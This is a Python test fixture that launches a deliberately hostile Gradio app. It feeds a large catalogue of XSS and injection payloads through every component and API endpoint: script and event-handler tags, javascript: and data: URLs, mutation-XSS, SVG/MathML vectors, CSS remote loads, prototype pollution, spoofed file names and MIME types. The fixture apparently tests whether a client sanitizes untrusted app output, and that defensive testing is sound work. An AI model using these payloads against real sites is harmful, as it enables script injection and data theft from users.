"""A Gradio 6 app that means harm: `python tests/apps/hostile.py --port 7860 --near http://127.0.0.2:7861`.

Every text that an app can put on a page is one of `PAYLOADS`, or all of them. Whoever lets one do what it
wants has `window.harm` set, or asks the network for an address with "harm" in it. What Gradio's own
components would refuse is sent as it is: the app is somebody else's program, and need not be Gradio.
"""

from __future__ import annotations

import argparse
import json
import os
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

os.environ["GRADIO_ANALYTICS_ENABLED"] = "False"

import gradio as gr
from PIL import Image

FOLDER = Path(os.environ["GRADIO_TEMP_DIR"]) / "hostile"
JS = "window.harm=1"
AWAY = "https://harm.invalid/x"
NEAR = sys.argv[sys.argv.index("--near") + 1]  # a host beside this one
NAME = "<img src=x onerror=window.harm=1>"

PAYLOADS = [
    f"<script>{JS}</script>",
    f"<script src='{AWAY}.js'></script>",
    f"<img src=x onerror='{JS}'>",
    f"<img src='{AWAY}.png'>",
    f"<img src='/api/harm'>",  # noqa: F541 - the notebook's own server
    f"<img srcset='{AWAY}.png 1x'>",
    f"<picture><source srcset='{AWAY}.png'><img></picture>",
    f"<video poster='{AWAY}' src='{AWAY}.mp4' autoplay onloadstart='{JS}'></video>",
    f"<audio src='{AWAY}.mp3' autoplay></audio>",
    f"<input autofocus onfocus='{JS}'>",
    f"<details open ontoggle='{JS}'>x</details>",
    f"<b onmouseover='{JS}' style='animation:x' onanimationstart='{JS}'>hover</b>",
    f"<a href='javascript:{JS}'>x</a>",
    f"<a href='jav&#x09;ascript:{JS}'>x</a>",
    f"<a href='data:text/html,<script>{JS}</script>'>x</a>",
    f"<a href='vbscript:{JS}' xlink:href='javascript:{JS}'>x</a>",
    f"<a href='/api/harm' ping='{AWAY}'>x</a>",
    f"<iframe src='javascript:{JS}'></iframe>",
    f"<iframe srcdoc='<script>parent.harm=1</script>'></iframe>",  # noqa: F541
    f"<iframe src='{AWAY}'></iframe>",
    f"<object data='{AWAY}'></object><embed src='{AWAY}'>",
    f"<meta http-equiv='refresh' content='0;url={AWAY}'>",
    f"<base href='{AWAY}/'>",
    f"<link rel='stylesheet' href='{AWAY}.css'>",
    f"<link rel='prefetch' href='{AWAY}'><link rel='preload' as='image' href='{AWAY}'>",
    f"<style>@import '{AWAY}.css'; body {{background:url({AWAY})}} .gnb {{display:none}}</style>",
    f"<div style='background:url({AWAY})'>x</div>",
    f"<div style='background:u\\72l({AWAY})'>x</div>",
    f"<div style='background-image:image-set(\"{AWAY}\" 1x)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>all over the page</div>",
    f"<svg onload='{JS}'><script>{JS}</script><image href='{AWAY}'/><use href='{AWAY}#x'/></svg>",
    f"<svg><a xlink:href='javascript:{JS}'><text>x</text></a></svg>",
    f"<svg><animate onbegin='{JS}' attributeName='x' dur='1s'/></svg>",
    f"<svg><set attributeName='onmouseover' to='{JS}'/><rect fill='url({AWAY}#a)'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.harm=1</script>'></iframe></foreignObject></svg>",  # noqa: F541
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={JS}&gt;'>",
    f"<math><a xlink:href='javascript:{JS}'>x</a><maction actiontype='statusline#{AWAY}'>x</maction></math>",
    f"<noscript><p title='</noscript><img src=x onerror={JS}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={JS}>'>",
    f"<template><img src=x onerror='{JS}'></template><textarea><img src=x onerror='{JS}'></textarea>",
    f"<form action='{AWAY}'><button formaction='javascript:{JS}'>x</button></form>",
    "<b data-commandlinker-command='notebook:run-all-cells' data-commandlinker-args='{}'>click</b>",
    "<a id='getElementById' name='harm' href='https://example.org'>x</a>",
    "<form id='harm'><input name='attributes'></form>",
    f"[x](javascript:{JS}) ![x]({AWAY}.png) <javascript:{JS}> [y](data:text/html;base64,PHNjcmlwdD4=)",
    f"[x]({AWAY} 'onmouseover={JS}') `<img src=x onerror={JS}>`",
    f"${{window.harm=1}} {{{{constructor.constructor('{JS}')()}}}}",
    f"$\\href{{javascript:{JS}}}{{x}} \\htmlData{{x=y}}{{x}} \\includegraphics{{{AWAY}.png}} \\url{{{AWAY}}}$",
    f"```<img src=x onerror={JS}>\n<script>{JS}</script>\n```",
    f"\"' onmouseover='{JS}' x=\"",
    f"]]><![CDATA[<script>{JS}</script>]]><!--<img src=x onerror={JS}>--!><img src=x onerror={JS}>",
    f"<img src='{NEAR}/x.png'> ![x]({NEAR}/x.png) <video src='{NEAR}/x.mp4'></video>",
    "\u202egnp.exe \u200b\u200d\u2066x\u2069 \u0000 \U0001f600",
]
ALL = " ".join(PAYLOADS)
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'><script>{JS}</script><image href='{AWAY}'/></svg>"


def raw(name: str) -> gr.JSON:
    """Make a component that says what it is told to, under the name of another."""
    component = gr.JSON(label=ALL)
    component.get_block_name = lambda: name
    component.preprocess = component.postprocess = lambda value: value
    return component


def file(name: str, data: bytes | str, mime_type: str) -> dict[str, Any]:
    """Give a file of this server, with a name and a type that are nothing but claims."""
    path = FOLDER / f"{abs(hash(data))}"
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    gr.set_static_paths([str(FOLDER)])
    return {
        "path": str(path),
        "orig_name": name,
        "mime_type": mime_type,
        "size": None,
        "is_stream": False,
        "meta": {"_type": "gradio.FileData"},
    }


def files() -> dict[str, dict[str, Any]]:
    FOLDER.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (8, 8), (255, 0, 0)).save(FOLDER / "red.png")
    red = (FOLDER / "red.png").read_bytes()
    return {
        "picture": file("<img src=x onerror=window.harm=1>.png", red, "image/png"),
        "drawing": file("a.svg", SVG, "image/svg+xml"),
        "page": file("\u202egnp.html\u200b", f"<script>{JS};opener.harm=1</script>", "text/html"),
        "lie": file("a.png", f"<script>{JS}</script>", "image/png"),
    }


def wires() -> dict[str, Any]:
    """Give what each component's endpoint answers, by the name of the component."""
    some = files()
    picture, drawing, page, lie = some.values()
    deep: Any = ALL
    for _ in range(150):
        deep = [deep]
    plotly = {"data": [{"type": "scatter", "x": [1, 2], "y": [1, 2], "text": PAYLOADS[:2], "name": ALL}]}
    vega = {
        "$schema": AWAY,
        "data": {"url": f"{AWAY}.json"},
        "mark": {"type": "point", "href": f"javascript:{JS}", "tooltip": ALL},
        "encoding": {"href": {"value": f"javascript:{JS}"}, "x": {"field": ALL}, "url": {"value": AWAY}},
        "usermeta": {"embedOptions": {"loader": {"baseURL": AWAY}, "actions": True}},
        "title": ALL,
        "params": [{"name": "harm", "expr": "constructor.constructor('window.harm=1')()"}],
    }
    content = [ALL, {"path": drawing, "alt_text": ALL}, {"file": page, "alt_text": ALL}, {"file": picture}]
    message = {"role": f"<b>{JS}", "content": ALL, "metadata": {"title": ALL, "log": ALL}, "options": [{"value": ALL}]}
    parts = [{"type": "text", "text": ALL}, {"type": "file", "file": drawing, "alt_text": ALL}]
    return {
        "textbox": ALL,
        "code": ALL,
        "json": {"__proto__": {"harm": 1}, "constructor": {"prototype": {"harm": 1}}, ALL: PAYLOADS, "deep": deep},
        "label": {"label": ALL, "confidences": [{"label": text, "confidence": 0.01} for text in PAYLOADS]},
        "highlightedtext": [{"token": text, "class_or_confidence": text} for text in PAYLOADS],
        "dataframe": {
            "headers": [ALL, "__proto__"],
            "data": [[text, text] for text in PAYLOADS],
            "metadata": {"styling": [[f"background:url({AWAY})", ""] for _ in PAYLOADS], "display_value": None},
        },
        "chatbot": [
            message,
            *({**message, "role": "assistant", "content": c} for c in content),
            {**message, "content": parts},
        ],
        "gallery": [{"image": one, "caption": ALL} for one in (picture, drawing, lie)],
        "image": drawing,
        "sketch": {"background": picture, "layers": [drawing, lie], "composite": lie},
        "imageslider": [drawing, picture],
        "annotatedimage": {"image": picture, "annotations": [{"image": drawing, "label": ALL}]},
        "audio": {**page, "subtitles": page},
        "video": {"video": page, "subtitles": page},
        "file": [*some.values()],
        "downloadbutton": page,
        "model3d": page,
        "plot": {"type": "plotly", "plot": json.dumps(plotly)},
        "lineplot": {"type": "altair", "plot": json.dumps(vega), "chart": ALL},
        "scatterplot": {
            "columns": [ALL, "y"],
            "data": [[ALL, 1]],
            "datatypes": {ALL: "nominal", "y": AWAY},
            "mark": "point",
        },
        "multimodaltextbox": {"text": ALL, "files": [page]},
        "paramviewer": {ALL: {"type": ALL, "description": ALL, "default": ALL}},
        "unheardof": {"html": ALL, "nested": [picture, drawing, page]},
    }


def huge(shape: str) -> Any:
    """Give a value of tens of MB."""
    if shape == "text":
        return ALL * 5_000
    return [{text: [text, number] for text in PAYLOADS} for number in range(3_000)]


def talk(message: Any, history: list[Any]) -> Iterator[Any]:
    yield ALL
    yield [{"role": "assistant", "content": ALL, "metadata": {"title": ALL, "log": ALL, "status": "pending"}}, ALL]


def form(label: str, depth: int = 2) -> dict[str, Any]:
    """Give a JSON schema whose every word means harm."""
    words = {"title": label, "description": ALL, "default": None}
    inner = {"type": "string", **words, "enum": PAYLOADS[:5]} if depth == 0 else form(label, depth - 1)
    properties = {text: {**inner, "title": text} for text in PAYLOADS[:3]} | {"__proto__": {"type": "string", **words}}
    return {"type": "object", **words, "properties": properties, "required": [PAYLOADS[0]]}


def everything() -> list[Any]:
    """Make one of each component that takes something, and let each of its words mean harm."""
    some = files()
    picture = FOLDER / f"{NAME}.png"
    picture.write_bytes(Path(some["picture"]["path"]).read_bytes())
    page = FOLDER / f"{NAME}.html"
    page.write_text(f"<script>{JS}</script>")
    words = {"label": ALL, "info": ALL}
    said = [{"role": "user", "content": ALL}, {"role": "assistant", "content": ALL, "metadata": {"title": ALL}}]
    schema = raw("unheard")
    schema.api_info = lambda: form(ALL)
    far = raw("image")
    far.value = {**some["picture"], "path": f"{NEAR}/picture.png", "orig_name": NAME}
    return [
        gr.Textbox(ALL, **words, placeholder=ALL, lines=3),
        gr.Dropdown([(text, text) for text in PAYLOADS], multiselect=True, value=PAYLOADS[:2], **words),
        gr.Dropdown([(text, text) for text in PAYLOADS], allow_custom_value=True, value=PAYLOADS[0], **words),
        gr.ColorPicker(f"red;background:url({AWAY})", **words),
        gr.DateTime(ALL, **words),
        gr.File([str(page), str(picture)], file_count="multiple", label=ALL),
        gr.Image(str(picture), label=ALL, placeholder=ALL),
        gr.Audio(label=ALL),
        gr.Video(label=ALL),
        gr.Gallery([(str(picture), text) for text in PAYLOADS[:4]], label=ALL, interactive=True),
        gr.Chatbot(said, label=ALL, placeholder=ALL),
        gr.MultimodalTextbox({"text": ALL, "files": [str(page)]}, placeholder=ALL, **words),
        gr.ImageEditor({"background": str(picture), "layers": [], "composite": None}, label=ALL),
        gr.Dataframe([PAYLOADS[:2]] * 3, headers=PAYLOADS[:2], label=ALL, datatype=["markdown", "html"]),
        gr.Code(ALL, language="html", label=ALL),
        gr.Model3D(label=ALL),
        schema,
        far,
    ]


def fail(how: str, bar: gr.Progress = gr.Progress()) -> Iterator[str]:
    bar((1, 3), desc=ALL, unit=ALL)
    gr.Info(ALL, title=ALL)
    gr.Warning(ALL)
    yield ALL
    raise gr.Error(f"{how} {ALL}", title=ALL)


def build() -> gr.Blocks:
    given = wires()
    with gr.Blocks(title=ALL) as app:
        for name, wire in given.items():
            gr.Button(ALL).click(lambda wire=wire: wire, None, raw(name), api_name=name)
        for kind, sources in (("html", gr.HTML), ("markdown", gr.Markdown)):
            shown = [sources() for _ in PAYLOADS]
            gr.Button().click(lambda: PAYLOADS, None, shown, api_name=kind)
        update = lambda: gr.update(choices=[(ALL, ALL)], label=ALL, info=ALL, value=ALL)  # noqa: E731
        gr.Button().click(update, None, gr.Dropdown(), api_name="dropdown")
        choices = [(text, text) for text in PAYLOADS]
        asked = [
            gr.Textbox(label=ALL, info=ALL, placeholder=ALL, value=ALL),
            gr.Dropdown(choices, label=PAYLOADS[0], info=ALL, value=PAYLOADS[1]),
            gr.Radio(choices[:5], label=PAYLOADS[2], value=PAYLOADS[2]),
            gr.CheckboxGroup(choices[:5], label=PAYLOADS[3], value=PAYLOADS[:2]),
            gr.Number(label=PAYLOADS[4], info=ALL),
            gr.Dataframe([PAYLOADS[:2]], headers=PAYLOADS[:2], label=PAYLOADS[5]),
            gr.JSON({ALL: ALL}, label=PAYLOADS[6]),
            gr.Code(ALL, label=PAYLOADS[7]),
            gr.Slider(0, 1, label=PAYLOADS[8], info=ALL),
        ]
        out = gr.Textbox(label=ALL)
        gr.Button().click(lambda *values: str(values), asked, out, api_name="form", api_description=ALL)
        gr.Examples([[text, *[None] * 8] for text in PAYLOADS[:5]], asked)
        gr.Button().click(lambda *values: str(values), everything(), out, api_name="everything")
        gr.Button().click(huge, gr.Textbox("text", label="Shape"), raw("textbox"), api_name="huge_text")
        gr.Button().click(huge, gr.Textbox("json", label="Shape"), raw("json"), api_name="huge_json")
        bot = gr.Chatbot([{"role": "user", "content": ALL}, {"role": "assistant", "content": ALL}], label=ALL)
        gr.ChatInterface(
            talk,
            chatbot=bot,
            title=ALL,
            description=ALL,
            examples=PAYLOADS[:5],
            api_name="talk",
            textbox=gr.Textbox(label=ALL, placeholder=ALL),
        )
        gr.Button().click(fail, gr.Textbox("x", label="How"), out, api_name="fail")
    return app


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--near", required=True)
    options = parser.parse_args()
    app = build()
    app.queue().launch(
        server_port=options.port, quiet=True, ssr_mode=False, show_error=True, allowed_paths=[str(FOLDER)]
    )
